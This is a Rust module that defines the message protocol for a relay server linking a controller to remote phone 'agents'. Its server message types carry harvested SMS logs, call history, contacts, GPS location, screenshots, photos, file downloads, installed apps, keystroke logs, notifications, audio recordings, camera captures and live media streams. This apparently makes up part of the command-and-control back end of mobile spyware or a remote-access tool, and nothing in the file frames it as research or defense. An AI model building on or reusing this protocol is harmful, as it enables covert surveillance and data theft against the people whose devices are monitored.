use chrono::{DateTime, Utc};
use serde::{Deserialize, Serialize};
use serde_json::{Map, Value};

/// Self-description supplied by an agent at registration. Everything beyond
/// `uid` is optional and opaque to the relay; unrecognized fields are carried
/// in `extra` untouched so newer agents can ship richer metadata without a
/// protocol change.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct AgentRecord {
    /// Stable device identifier. `unique_id` is the historical wire name for
    /// the same field; both are accepted and resolved to `uid` here.
    #[serde(alias = "unique_id")]
    pub uid: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub device: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub manufacturer: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub phone: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub network: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub os_version: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub app_version: Option<String>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub battery: Option<f64>,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub location: Option<String>,
    /// Stamped by the registry when the entry is created; never supplied by
    /// the agent itself.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub connected_at: Option<DateTime<Utc>>,
    #[serde(flatten)]
    pub extra: Map<String, Value>,
}

/// Authenticated controller identity.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq, Eq)]
pub struct Identity {
    pub email: String,
    pub name: String,
    pub role: String,
}

/// The agent-facing translated form of a controller command: a name plus a
/// positional argument list, transmitted verbatim inside a `commands` event.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct CommandDescriptor {
    pub name: String,
    #[serde(default)]
    pub args: Vec<Value>,
}

impl CommandDescriptor {
    pub fn new(name: impl Into<String>, args: Vec<Value>) -> Self {
        Self {
            name: name.into(),
            args,
        }
    }
}

/// One tagged unit of agent-reported data. The `kind` discriminator selects
/// the normalization rule; everything else stays an uninterpreted field map
/// until the payload router decodes it.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
pub struct TelemetryPayload {
    pub kind: String,
    #[serde(flatten)]
    pub fields: Map<String, Value>,
}

/// Inbound wire messages, from either party. A connection's first accepted
/// message must be one of the registration forms; everything else is ignored
/// until the connection holds a role.
#[derive(Debug, Clone, Serialize, Deserialize)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum ClientMessage {
    /// Agent registration. Carries credentials plus the device record.
    RegisterAgent {
        email: String,
        password: String,
        #[serde(flatten)]
        record: AgentRecord,
    },
    /// Trusted controller registration: identity was established upstream
    /// (the HTTP login flow), so this form always succeeds.
    RegisterController { identity: Identity },
    /// Credential-checked controller registration.
    RegisterControllerWithCredentials { email: String, password: String },
    RequestAgentList,
    /// Logical command for one agent; free-form parameters are flattened.
    IssueCommand {
        command: String,
        #[serde(alias = "target_unique_id")]
        target_uid: String,
        #[serde(flatten)]
        params: Map<String, Value>,
    },
    /// Pre-translated descriptor list forwarded to the agent verbatim.
    IssueRawCommand {
        #[serde(alias = "target_unique_id")]
        target_uid: String,
        commands: Vec<CommandDescriptor>,
    },
    /// Controller half of the media handshake.
    SignalingAnswer { uid: String, answer: Value },
    ControllerIce { uid: String, candidate: Value },
    /// Agent telemetry of any kind.
    Telemetry {
        #[serde(flatten)]
        payload: TelemetryPayload,
    },
    /// Agent half of the media handshake. The uid is implied by the sending
    /// connection.
    SignalingOffer {
        offer: Value,
        #[serde(default)]
        media_kind: Option<String>,
    },
    AgentIce { candidate: Value },
    SignalingError { message: String },
}

/// Outbound wire messages. Controller-facing and agent-facing events share
/// one enum because every connection drains the same channel type; which
/// variants a party actually receives is determined by its role.
#[derive(Debug, Clone, Serialize, Deserialize, PartialEq)]
#[serde(tag = "type", rename_all = "snake_case")]
pub enum ServerMessage {
    // Roster lifecycle, to the controller.
    AgentList {
        agents: Vec<AgentRecord>,
    },
    AgentAdded {
        agent: AgentRecord,
    },
    AgentRemoved {
        uid: String,
    },
    CommandError {
        message: String,
    },
    AuthError {
        message: String,
    },

    // Normalized telemetry, to the controller. Field order mirrors the
    // inbound payloads so the projection stays order-preserving.
    MessageLog {
        uid: String,
        data: Vec<Value>,
    },
    CallHistory {
        uid: String,
        data: Vec<Value>,
    },
    ContactList {
        uid: String,
        data: Vec<Value>,
    },
    Location {
        uid: String,
        latitude: Option<f64>,
        longitude: Option<f64>,
        accuracy: Option<f64>,
    },
    Screenshot {
        uid: String,
        image: Value,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        name: Option<String>,
    },
    PhotoBatch {
        uid: String,
        data: Vec<Value>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        batch_index: Option<Value>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        total_batches: Option<Value>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        batch_size: Option<Value>,
    },
    PhotoBatchComplete {
        uid: String,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        total: Option<Value>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        message: Option<String>,
    },
    FileList {
        uid: String,
        data: Vec<Value>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        path: Option<String>,
    },
    FileDownload {
        uid: String,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        name: Option<String>,
        file_data: Value,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        path: Option<String>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        size: Option<Value>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        mime_type: Option<String>,
    },
    InstalledApps {
        uid: String,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        data: Option<Vec<Value>>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        batch: Option<Vec<Value>>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        batch_index: Option<Value>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        total_batches: Option<Value>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        total: Option<Value>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        complete: Option<bool>,
    },
    Keylog {
        uid: String,
        data: Vec<Value>,
    },
    Notification {
        uid: String,
        data: Vec<Value>,
    },
    AudioRecording {
        uid: String,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        name: Option<String>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        size: Option<Value>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        duration: Option<Value>,
        audio: Value,
    },
    CameraPhoto {
        uid: String,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        name: Option<String>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        size: Option<Value>,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        facing: Option<String>,
        image: Value,
    },
    DeviceError {
        uid: String,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        command: Option<String>,
        message: String,
    },
    /// Telemetry of a kind outside the fixed set, forwarded raw so nothing
    /// is silently dropped.
    Passthrough {
        uid: String,
        kind: String,
        payload: Map<String, Value>,
    },

    // Media signaling, to the controller.
    SignalingOffer {
        uid: String,
        offer: Value,
        #[serde(default, skip_serializing_if = "Option::is_none")]
        media_kind: Option<String>,
    },
    AgentIce {
        uid: String,
        candidate: Value,
    },
    SignalingError {
        uid: String,
        message: String,
    },

    // Agent-facing.
    Commands {
        commands: Vec<CommandDescriptor>,
    },
    SignalingAnswer {
        answer: Value,
    },
    ControllerIce {
        candidate: Value,
    },
}
